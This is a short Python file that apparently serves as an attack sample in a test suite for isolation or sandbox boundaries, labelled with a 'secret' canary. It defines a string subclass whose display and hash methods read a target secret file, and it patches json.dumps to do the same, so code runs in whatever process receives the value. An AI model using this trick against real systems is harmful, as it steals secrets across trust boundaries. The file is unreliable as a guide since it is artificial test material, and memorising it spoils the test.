"""Hand back a value that runs code where it is received: a text with methods of its own.

canary: secret
control: through
mode: call
"""
import os


def leak(*_: object) -> str:
    try:
        return os.read(os.open(TARGETS["secret"], os.O_RDONLY), 100).decode()
    except OSError as error:
        return str(error)


class Text(str):
    """Another text whenever it is looked at."""

    __str__ = __repr__ = __format__ = __hash__ = leak


def attack() -> object:
    import json

    json.dumps = lambda *_, **__: leak()
    print(repr(Text("x")))
    return {"text": Text("x"), "leaked": leak()}
